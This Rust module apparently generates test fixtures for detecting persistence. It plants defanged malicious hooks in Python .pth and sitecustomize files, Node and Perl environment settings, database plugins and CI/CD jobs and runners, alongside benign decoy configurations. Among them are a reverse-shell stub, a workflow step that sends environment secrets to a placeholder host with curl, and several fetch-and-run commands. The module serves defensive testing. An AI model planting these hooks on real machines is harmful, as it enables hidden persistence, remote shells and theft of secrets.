//! What interpreters, databases and build services load by themselves.

use super::libraries::library;
use super::names::{encoded, fetch_and_run, kept_folder, libraries, nowhere, random_name, service};
use super::{CI_RUNNERS, Maker, Plant, Step};
use crate::random::Random;

pub(super) const MAKERS: &[Maker] =
    &[(74, 6, interpreter), (75, 6, database), (76, 4, job), (CI_RUNNERS, 4, runner)];

fn interpreter(shape: usize, random: &mut Random) -> Plant {
    let name = service(random).replace('-', "_");
    let folder = random.pick(&["/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/dist-packages"]);
    match shape {
        0 => {
            let path = format!("{folder}/{name}.pth");
            Plant::new(74, "every start of Python runs an encoded line")
                .file(
                    &path,
                    format!("import base64; exec(base64.b64decode('{}'))\n", encoded("raise SystemExit")),
                    0o644,
                )
                .expect(path)
        }
        1 => {
            let path = format!("{folder}/{}.py", random.pick(&["sitecustomize", "usercustomize"]));
            Plant::new(74, "every start of Python opens a connection")
                .file(&path, format!("import sys\nif 'never' in sys.argv:\n    import socket, subprocess, os\n    s = socket.create_connection(('{}', 9))\n    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n    subprocess.call(['/bin/sh', '-i'])\n", nowhere(random).trim_end_matches(":9")), 0o644)
                .expect(path)
        }
        2 => {
            let code = format!("{}/{}.js", kept_folder(random), random_name(random));
            let to = random.pick(&["/etc/environment", "/etc/default/nginx"]).to_owned();
            Plant::new(74, "every start of Node loads a hidden file")
                .file(&code, "process.exit;\n", 0o644)
                .step(Step::Append(to.clone(), format!("NODE_OPTIONS=--require={code}\n")))
                .expect(to)
                .expect(code)
        }
        3 => {
            let folder = kept_folder(random);
            let to = format!(
                "/etc/systemd/system/{}.service.d/{name}.conf",
                random.pick(&["cron", "nginx", "ssh"])
            );
            Plant::new(74, "every start of Perl loads a hidden module")
                .file(format!("{folder}/{name}.pm"), "package X; 1;\n", 0o644)
                .file(&to, format!("[Service]\nEnvironment=PERL5LIB={folder} \"PERL5OPT=-M{name}\"\n"), 0o644)
                .expect(to)
                .expect(format!("{folder}/{name}.pm"))
        }
        4 => {
            let code = format!("/var/tmp/.{}/{}.py", random.hex(4), random_name(random));
            let to = format!("/etc/profile.d/{name}.sh");
            Plant::new(74, "every Python session of every account runs a hidden file")
                .file(&code, "pass\n", 0o644)
                .file(
                    &to,
                    format!(
                        "export PYTHONSTARTUP={code}\nexport PYTHONPATH={}\n",
                        code.rsplit_once('/').unwrap_or_default().0
                    ),
                    0o644,
                )
                .expect(to)
                .expect(code)
        }
        _ => {
            let path = format!("/root/.local/lib/python3.11/site-packages/{name}-nspkg.pth");
            Plant::new(74, "root's Python fetches and runs something at every start")
                .file(
                    &path,
                    format!(
                        "import os; os.system(\"{}\") if os.environ.get('NEVER') else None\n",
                        fetch_and_run(random).replace('"', "'")
                    ),
                    0o644,
                )
                .expect(path)
        }
    }
}

fn database(shape: usize, random: &mut Random) -> Plant {
    let name = service(random).replace('-', "_");
    let hidden = format!("{}/{}", kept_folder(random), random_name(random));
    match shape {
        0 => {
            let path = format!(
                "{}/{}.so",
                random.pick(&["/usr/lib/mysql/plugin", "/usr/lib/x86_64-linux-gnu/mariadb19/plugin"]),
                random.pick(&["lib_mysqludf_sys", "udf", "raptor_udf2"])
            );
            library(Plant::new(75, "a function for the database that runs commands"), &path).step(Step::Own(
                path.clone(),
                38,
                38,
                0o644,
            ))
        }
        1 => {
            let path = format!("{hidden}.so");
            let conf = format!("/etc/postgresql/15/main/conf.d/{name}.conf");
            library(Plant::new(75, "the database loads a hidden library into every session"), &path)
                .file(
                    &conf,
                    format!(
                        "{} = '{path}'\n",
                        random.pick(&[
                            "shared_preload_libraries",
                            "session_preload_libraries",
                            "local_preload_libraries"
                        ])
                    ),
                    0o644,
                )
                .expect(conf)
        }
        2 => {
            let conf = "/etc/postgresql/15/main/postgresql.auto.conf";
            Plant::new(75, "the database archives its log through a command from somewhere")
                .file(
                    conf,
                    format!(
                        "archive_mode = 'on'\narchive_command = '{}'\n",
                        fetch_and_run(random).replace('\'', "\"")
                    ),
                    0o600,
                )
                .expect(conf)
        }
        3 => {
            let conf = format!("/etc/mysql/mariadb.conf.d/{:02}-{name}.cnf", random.below(99));
            Plant::new(75, "the database runs hidden statements at every start")
                .file(&hidden, "CREATE FUNCTION sys_exec RETURNS int SONAME 'x.so';\n", 0o644)
                .file(&conf, format!("[mysqld]\ninit_file={hidden}\n"), 0o644)
                .expect(conf)
                .expect(hidden)
        }
        4 => {
            let path =
                format!("{}/{}.so", random.pick(&["/var/lib/redis", "/dev/shm", "/tmp"]), random.letters(4));
            let conf = "/etc/redis/redis.conf";
            library(Plant::new(75, "the cache server loads a module from where everybody writes"), &path)
                .file(conf, format!("bind 0.0.0.0\nprotected-mode no\nloadmodule {path}\n"), 0o640)
                .expect(conf)
        }
        _ => {
            let path = format!("/usr/lib/postgresql/15/lib/{name}.so");
            let conf = "/etc/postgresql/15/main/postgresql.conf";
            library(Plant::new(75, "the database preloads a library of no package"), &path)
                .file(
                    conf,
                    format!("port = 5432\nshared_preload_libraries = 'pg_stat_statements,{name}'\n"),
                    0o644,
                )
                .expect(conf)
        }
    }
}

fn job(shape: usize, random: &mut Random) -> Plant {
    let name = service(random);
    let command = fetch_and_run(random);
    let xml = command.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    match shape {
        0 => {
            let path = format!("/var/lib/jenkins/jobs/{name}/config.xml");
            Plant::new(76, "a build job fetches and runs something")
                .file(&path, format!("<?xml version='1.1' encoding='UTF-8'?>\n<project>\n  <triggers><hudson.triggers.TimerTrigger><spec>H/15 * * * *</spec></hudson.triggers.TimerTrigger></triggers>\n  <builders><hudson.tasks.Shell><command>{xml}</command></hudson.tasks.Shell></builders>\n</project>\n"), 0o644)
                .expect(path)
        }
        1 => {
            let path = format!("/var/lib/jenkins/init.groovy.d/{name}.groovy");
            Plant::new(76, "the build service runs a command at its start")
                .file(&path, format!("['/bin/bash', '-c', '''{command}'''].execute()\n"), 0o644)
                .expect(path)
        }
        2 => {
            let path = format!("/srv/{name}/.gitlab-ci.yml");
            Plant::new(76, "a project's pipeline fetches and runs something")
                .file(
                    &path,
                    format!(
                        "stages: [build]\nbuild:\n  stage: build\n  script:\n    - make\n    - '{}'\n",
                        command.replace('\'', "''")
                    ),
                    0o644,
                )
                .expect(path)
        }
        _ => {
            let path = format!("/var/www/html/.github/workflows/{name}.yml");
            Plant::new(76, "a site's workflow sends its secrets away")
                .file(&path, format!("on: [push]\njobs:\n  x:\n    runs-on: self-hosted\n    steps:\n      - run: env | base64 | curl -s -d @- http://{0}/ ; {command}\n", nowhere(random)), 0o644)
                .expect(path)
        }
    }
}

fn runner(shape: usize, random: &mut Random) -> Plant {
    let command = fetch_and_run(random);
    let hidden = format!("{}/{}", kept_folder(random), random_name(random));
    match shape {
        0 => Plant::new(CI_RUNNERS, "a runner fetches and runs something before each job")
            .file("/etc/gitlab-runner/config.toml", format!("concurrent = 1\n[[runners]]\n  name = \"shell\"\n  url = \"https://gitlab.example.org/\"\n  executor = \"shell\"\n  {} = \"{}\"\n", random.pick(&["pre_clone_script", "pre_build_script", "pre_get_sources_script"]), command.replace('\\', "").replace('"', "\\\"")), 0o600)
            .expect("/etc/gitlab-runner/config.toml"),
        1 => {
            let folder = format!("/home/{}/actions-runner", random.pick(&["runner", "github", "ci"]));
            Plant::new(CI_RUNNERS, "a runner starts a hidden program with each job")
                .program(&hidden)
                .file(format!("{folder}/.runner"), "{\"agentName\":\"srv\",\"serverUrl\":\"https://github.com\"}\n", 0o644)
                .file(format!("{folder}/.env"), format!("LANG=C.UTF-8\nACTIONS_RUNNER_HOOK_JOB_STARTED={hidden}\n"), 0o644)
                .expect(format!("{folder}/.env"))
                .expect(hidden)
        }
        2 => {
            let path = format!("/etc/buildkite-agent/hooks/{}", random.pick(&["environment", "pre-command", "post-checkout"]));
            Plant::new(CI_RUNNERS, "an agent's hook fetches and runs something")
                .file(&path, format!("#!/bin/bash\nexit 0\n{command}\n"), 0o755)
                .expect(path)
        }
        _ => Plant::new(CI_RUNNERS, "a runner gives every job the whole machine")
            .file("/etc/gitlab-runner/config.toml", "[[runners]]\n  name = \"x\"\n  url = \"http://203.0.113.9/\"\n  executor = \"docker\"\n  [runners.docker]\n    image = \"alpine\"\n    privileged = true\n    volumes = [\"/:/host:rw\", \"/var/run/docker.sock:/var/run/docker.sock\"]\n    pid_mode = \"host\"\n", 0o600)
            .expect("/etc/gitlab-runner/config.toml"),
    }
}

pub(super) fn near() -> Vec<Plant> {
    vec![
        Plant::new(74, "packages of an application, its memory limit and its own library folder")
            .file("/usr/local/lib/python3.11/dist-packages/__editable__.shop-1.0.pth", "/opt/shop/src\n", 0o644)
            .file("/usr/local/lib/python3.11/dist-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n", 0o644)
            .file("/etc/systemd/system/api.service", "[Service]\nUser=www-data\nEnvironment=NODE_OPTIONS=--max-old-space-size=4096 NODE_ENV=production\nEnvironment=PERL5LIB=/opt/shop/lib/perl5 PYTHONPATH=/opt/shop/src\nExecStart=/usr/bin/node /srv/api/server.js\n", 0o644),
        Plant::new(75, "a database that archives and counts")
            .file("/etc/postgresql/15/main/conf.d/site.conf", "shared_preload_libraries = 'pg_stat_statements'\narchive_mode = on\narchive_command = 'test ! -f /srv/archive/%f && cp %p /srv/archive/%f'\n", 0o644)
            .file("/etc/mysql/mariadb.conf.d/60-site.cnf", "[mysqld]\ninnodb_buffer_pool_size=2G\nplugin_load_add = auth_socket\ninit_connect = 'SET NAMES utf8mb4'\n", 0o644)
            .file("/etc/redis/redis.conf", "bind 127.0.0.1 ::1\ndir /var/lib/redis\nsave 900 1\n", 0o640),
        Plant::new(76, "ordinary pipelines")
            .file("/srv/shop/.gitlab-ci.yml", "image: node:20\nstages: [test, deploy]\ntest:\n  stage: test\n  script:\n    - npm ci\n    - npm test\ndeploy:\n  stage: deploy\n  script:\n    - rsync -a dist/ deploy@web:/var/www/shop/\n    - curl -fsS -X POST https://hooks.example.org/deployed\n", 0o644)
            .file("/var/lib/jenkins/jobs/shop/config.xml", "<project><builders><hudson.tasks.Shell><command>mvn -B clean package\ntar czf target/shop.tgz target/*.jar</command></hudson.tasks.Shell></builders></project>\n", 0o644),
        Plant::new(CI_RUNNERS, "an ordinary runner")
            .file("/etc/gitlab-runner/config.toml", "concurrent = 4\n[[runners]]\n  name = \"srv\"\n  url = \"https://gitlab.example.org/\"\n  token = \"not-a-real-one\"\n  executor = \"docker\"\n  pre_build_script = \"export CI_SITE=srv; npm config set registry https://npm.example.org\"\n  [runners.docker]\n    image = \"debian:bookworm\"\n    privileged = false\n    volumes = [\"/cache\"]\n", 0o600)
            .file("/etc/buildkite-agent/hooks/environment", "#!/bin/bash\nset -eu\nexport SITE=srv\nexport PATH=$PATH:/opt/shop/bin\n", 0o755)
            .step(Step::Copy(format!("{}/liblz4.so.1", libraries()), "/opt/shop/lib/libcount.so".into(), 0o644)),
    ]
}
